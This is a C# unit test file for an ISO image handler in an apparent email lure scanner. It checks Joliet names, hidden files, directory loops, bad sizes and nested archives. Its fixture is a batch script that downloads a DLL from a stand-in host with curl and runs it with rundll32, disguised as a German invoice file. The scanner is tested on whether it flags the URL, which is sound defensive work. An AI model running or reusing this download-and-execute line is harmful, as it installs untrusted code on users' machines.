using System.Buffers.Binary;
using System.Text;
using Lurewatch.Files.Archives;
using Lurewatch.Samples;
using Lurewatch.Samples.Disks;
using Shouldly;
using Xunit;

namespace Lurewatch.Tests.Files.Archives;

public sealed class IsoHandlerTests
{
    private static readonly byte[] Script = Encoding.ASCII.GetBytes("@echo off\r\ncurl http://iso.example/a.dll -o %TEMP%\\a.dll\r\nrundll32 %TEMP%\\a.dll,Start\r\n");

    [Fact]
    public void Joliet_names_are_shown_and_each_file_comes_out_once()
    {
        var iso = IsoWriter.Write([new("Rechnung über März 2022.bat", Script), new("Ordner/Bild.txt", [1, 2, 3])]);
        var analysis = Scan(iso, "Rechnung.iso");
        analysis.Artifacts.Select(file => file.Path).ShouldBe(["/", "/Rechnung über März 2022.bat", "/Ordner/Bild.txt"]);
        Facts(analysis).Volumes.Select(volume => volume.Kind).ShouldBe(["joliet", "iso9660"]);
        Facts(analysis).Problems.ShouldBeEmpty();
        analysis.Indicators.ShouldContain(indicator => indicator.Value == "http://iso.example/a.dll");
    }

    [Fact]
    public void Without_Joliet_the_names_of_ISO_9660_lose_their_version()
    {
        var analysis = Scan(IsoWriter.Write([new("readme.bat", Script)], joliet: false), "a.iso");
        analysis.Artifacts[1].Name.ShouldBe("README.BAT");
    }

    [Fact]
    public void A_hidden_file_is_read_and_said_to_be_hidden()
    {
        var facts = Facts(Scan(IsoWriter.Write([new("open.txt", [65]), new("lib.dat", Script, Hidden: true)]), "a.iso"));
        facts.Entries.Select(entry => (entry.Name, entry.Hidden)).ShouldBe([("open.txt", false), ("lib.dat", true)]);
    }

    [Fact]
    public void A_folder_that_holds_itself_ends_and_is_noted()
    {
        var iso = IsoWriter.Write([new("folder/a.bat", Script)], joliet: false);
        var root = BinaryPrimitives.ReadInt32LittleEndian(iso.AsSpan((16 * 2048) + 158));
        BinaryPrimitives.WriteInt32LittleEndian(iso.AsSpan((root * 2048) + 68 + 2), root); // the folder's record now leads to the root
        var facts = Facts(Scan(iso, "a.iso"));
        facts.Problems.ShouldContain(problem => problem.Id == "directory-loop");
        facts.Entries.Count.ShouldBeLessThan(10);
    }

    [Fact]
    public void A_declared_size_of_two_gibibytes_yields_what_is_there()
    {
        var iso = IsoWriter.Write([new("a.bat", Script)], joliet: false);
        var at = iso.AsSpan().IndexOf("A.BAT;1"u8) - 33 + 10;
        BinaryPrimitives.WriteUInt32LittleEndian(iso.AsSpan(at), 0x80000000);
        var analysis = Scan(iso, "a.iso");
        analysis.Artifacts[0].Unopened.ShouldBe("damaged");
        analysis.Artifacts[1].Bytes.Length.ShouldBe(2048);
        Facts(analysis).Problems.ShouldContain(problem => problem.Id == "content-cut");
    }

    [Fact]
    public void A_file_that_only_the_other_tree_lists_comes_out_too()
    {
        var iso = IsoWriter.Write([new("seen.txt", [65, 66]), new("away.bat", Script)]);
        var name = iso.AsSpan().IndexOf(Encoding.BigEndianUnicode.GetBytes("away.bat;1"));
        iso[name - 33] = 0; // the Joliet tree ends before it
        var analysis = Scan(iso, "a.iso");
        analysis.Artifacts.Select(file => file.Path).ShouldBe(["/", "/seen.txt", "/AWAY.BAT"]);
        Facts(analysis).Problems.ShouldContain(problem => problem.Id == "trees-differ");
    }

    [Fact]
    public void A_zip_in_an_image_in_a_zip_is_followed_to_the_script()
    {
        var inner = ZipWriter.Write([("run.bat", Script)]);
        var outer = ZipWriter.Write([("Rechnung.iso", IsoWriter.Write([new("inner.zip", inner)]))]);
        var analysis = Scan(outer, "outer.zip");
        analysis.Artifacts.Select(file => file.Path).ShouldContain("/Rechnung.iso/inner.zip/run.bat");
        analysis.Indicators.ShouldContain(indicator => indicator.Value == "http://iso.example/a.dll");
    }

    [Fact]
    public void Every_cut_of_an_image_is_read_without_a_throw()
    {
        var iso = IsoWriter.Write([new("folder/a.bat", Script), new("b.txt", [65])]);
        for (var length = 0x8000; length < iso.Length; length += 512) Scan(iso[..length], "a.iso");
    }

    private static Analysis Scan(byte[] bytes, string name) => new MailScanner(new ScanOptions { Strict = true }).Scan(bytes, name);

    private static ArchiveFacts Facts(Analysis analysis) => analysis.Artifacts[0].Facts.ShouldBeOfType<ArchiveFacts>();
}
